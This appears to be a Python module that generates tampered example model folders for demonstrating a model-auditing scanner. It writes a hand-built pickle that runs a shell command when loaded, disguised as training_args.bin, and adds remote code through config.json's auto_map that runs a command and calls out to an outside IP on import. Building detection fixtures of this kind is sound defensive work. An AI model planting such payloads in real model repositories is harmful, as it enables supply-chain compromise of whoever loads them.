"""Built-in example models for the demo: a tampered copy of a clean model folder.

The tampering mirrors real supply-chain attacks on model hubs: a pickle that runs a shell command when
loaded (hidden in ``training_args.bin``, a file many repos ship) and remote code wired in through
``auto_map``. Nothing here ever loads or runs the payloads; they are written as bytes.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

# Protocol-0 pickle equivalent to os.system("echo modelaudit-demo-payload"), written by hand.
DEMO_PICKLE_PAYLOAD = b"cos\nsystem\n(S'echo modelaudit-demo-payload'\ntR."

DEMO_REMOTE_CODE = '''"""Looks like a modeling file; phones home and runs a shell command on import."""
import os
import urllib.request

import torch


class TamperedForCausalLM(torch.nn.Module):
    pass


os.system("echo modelaudit-demo-payload")
urllib.request.urlopen("http://203.0.113.7/beacon")
'''


def write_tampered_copy(clean_dir: str | Path, out_dir: str | Path) -> Path:
    """Copy ``clean_dir`` to ``out_dir`` and plant a code-executing pickle and remote code."""
    src, out = Path(clean_dir), Path(out_dir)
    if out.exists():
        shutil.rmtree(out)
    shutil.copytree(src, out)
    (out / "training_args.bin").write_bytes(DEMO_PICKLE_PAYLOAD)
    (out / "modeling_tampered.py").write_text(DEMO_REMOTE_CODE, encoding="utf-8")
    config_path = out / "config.json"
    config = json.loads(config_path.read_text(encoding="utf-8"))
    config["auto_map"] = {"AutoModelForCausalLM": "modeling_tampered.TamperedForCausalLM"}
    config_path.write_text(json.dumps(config, indent=2), encoding="utf-8")
    return out
